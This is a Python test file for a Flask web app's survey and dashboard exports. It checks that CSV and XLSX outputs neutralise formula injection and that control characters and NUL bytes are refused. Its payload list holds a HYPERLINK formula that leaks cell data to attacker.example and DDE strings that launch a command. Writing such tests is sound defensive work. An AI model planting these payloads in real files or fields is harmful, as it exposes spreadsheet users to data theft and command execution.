"""Issue 12, items 1, 2 and 10: formula injection in every CSV/XLSX written, control characters
in stored names, NUL in a URL path."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook

from app.extensions import db
from app.models import CollectionPoint
from surveys.cells import safe_cell
from tests.app.test_dashboard import BASE_QUERY, seeded  # noqa: F401 - fixture
from tests.app.test_surveys_exports import add_response, make_club
from tests.conftest import csrf_token, page_text

# What OWASP's CSV injection page and public proof-of-concepts use.
ATTACKS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Cliquez ici")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd", "'+cmd"),
        ("-2+3", "'-2+3"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-2", "-2"),
        ("+33", "+33"),
        ("-3,5", "-3,5"),
        ("-0.25", "-0.25"),
        ("1e-3", "1e-3"),
        ("Bonjour = salut", "Bonjour = salut"),
        ("Gare\x0broutière\x00", "Gareroutière"),
        ("\x01=1+1", "'=1+1"),
        (12, 12),
        (-4.5, -4.5),
        (None, None),
        ("", ""),
    ],
)
def test_safe_cell(raw: object, expected: object) -> None:
    assert safe_cell(raw) == expected


def _assert_neutral(value: object, where: str) -> None:
    if isinstance(value, str) and value:
        assert (
            value[0] not in TRIGGERS
            or value.lstrip("+-").replace(",", "").replace(".", "").isdigit()
        ), f"live formula {value!r} in {where}"


def _club_with_attacks(app: Flask) -> None:
    with app.app_context():
        v1, _v2 = make_club()
        for attack in ATTACKS:
            add_response(v1, [("old_q", 0, attack), ("kname", 1, attack)])
        add_response(v1, [("old_q", 0, "-2")])


def test_questionnaire_csv_and_xlsx_exports_neutralise_formulas(
    app: Flask, client: FlaskClient, auth
) -> None:  # type: ignore[no-untyped-def]
    _club_with_attacks(app)
    auth.login("coordinator")
    for table, column in (("responses", "old_q"), ("kids", "kname")):
        response = client.get(f"/admin/questionnaires/club/export?format=csv&table={table}")
        assert response.status_code == 200
        rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
        values = [r[column] for r in rows if r[column]]
        assert values[: len(ATTACKS)] == ["'" + a for a in ATTACKS]
        for row in rows:
            for key, value in row.items():
                _assert_neutral(value, f"{table}.{key}")
    main = client.get("/admin/questionnaires/club/export?format=csv").get_data(as_text=True)
    plain = list(csv.DictReader(io.StringIO(main.lstrip("\ufeff"))))
    assert plain[-1]["old_q"] == "-2"  # a number stays a number

    xlsx = client.get("/admin/questionnaires/club/export?format=xlsx")
    book = load_workbook(io.BytesIO(xlsx.data))
    seen = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"formula in {sheet.title}!{cell.coordinate}"
                _assert_neutral(cell.value, f"{sheet.title}!{cell.coordinate}")
                seen.append(cell.value)
    assert "'" + ATTACKS[0] in seen
    assert -2 in seen  # numeric, as Excel should add it up


def test_cli_csv_export_neutralises_formulas(app: Flask, runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    _club_with_attacks(app)
    out = tmp_path / "club.csv"
    result = runner.invoke(args=["surveys", "export", "club", "--format", "csv", "-o", str(out)])
    assert result.exit_code == 0, result.output
    for path in (out, tmp_path / "club-kids.csv"):
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))):
            for value in row:
                _assert_neutral(value, path.name)
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    assert "'" + ATTACKS[1] in [r["old_q"] for r in rows]


def _rename_point(app: Flask, name: str) -> None:
    with app.app_context():
        point = db.session.query(CollectionPoint).filter_by(code="auchan").one()
        point.name = name
        db.session.commit()


def test_dashboard_exports_neutralise_a_point_named_like_a_formula(
    app: Flask,
    client: FlaskClient,
    auth,
    seeded,  # noqa: F811
) -> None:  # type: ignore[no-untyped-def]
    from app.services import dashboard as service

    attack = '=HYPERLINK("http://attacker.example/","Auchan")'
    _rename_point(app, attack)
    service.cache().clear()
    auth.login("coordinator")
    response = client.get(f"/dashboard/export.xlsx?{BASE_QUERY}")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.data))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"formula in {sheet.title}!{cell.coordinate}"
                _assert_neutral(cell.value, f"{sheet.title}!{cell.coordinate}")
                texts.append(str(cell.value))
    assert any(("'" + attack) in t for t in texts)
    archive = zipfile.ZipFile(io.BytesIO(client.get(f"/dashboard/export.zip?{BASE_QUERY}").data))
    found = False
    for name in archive.namelist():
        table = csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig")), delimiter=";")
        for row in table:
            for value in row:
                _assert_neutral(value, name)
                found = found or value == "'" + attack
    assert found


def test_control_characters_in_a_stored_point_name_do_not_break_the_xlsx(
    app: Flask,
    client: FlaskClient,
    auth,
    seeded,  # noqa: F811
) -> None:  # type: ignore[no-untyped-def]
    from app.services import dashboard as service

    _rename_point(app, "Auchan\x0b Martigues\x1b")  # stored before the input check existed
    service.cache().clear()
    auth.login("coordinator")
    for query in (BASE_QUERY, f"{BASE_QUERY}&point=auchan", "form=mairiebus&demo=all"):
        response = client.get(f"/dashboard/export.xlsx?{query}")
        assert response.status_code == 200, query
        book = load_workbook(io.BytesIO(response.data))
        cells = [str(c) for s in book.worksheets for r in s.iter_rows(values_only=True) for c in r]
        assert not any("\x0b" in c or "\x1b" in c for c in cells)
    assert client.get(f"/dashboard/export.zip?{BASE_QUERY}").status_code == 200


def test_control_characters_are_refused_at_input_keeping_nothing_half_written(
    app: Flask,
    client: FlaskClient,
    auth,
    seeded,  # noqa: F811
) -> None:  # type: ignore[no-untyped-def]
    auth.login("coordinator")
    token = csrf_token(client, "/points/nouveau")
    response = client.post(
        "/points/nouveau",
        data={"csrf_token": token, "name": "Gare\x0b routière", "kind": "park"},
    )
    assert response.status_code == 400
    assert "caractère invalide" in page_text(response)
    with app.app_context():
        assert (
            db.session.query(CollectionPoint).filter(CollectionPoint.name.like("Gare%")).count()
            == 0
        )


@pytest.mark.parametrize("path", ["/q/abc%00def", "/admin/questionnaires/club%00/export", "/%00"])
def test_nul_in_the_url_path_is_a_french_400(client: FlaskClient, auth, path: str) -> None:  # type: ignore[no-untyped-def]
    auth.login("coordinator")
    response = client.get(path)
    assert response.status_code == 400
    assert "caractère invalide" in page_text(response)
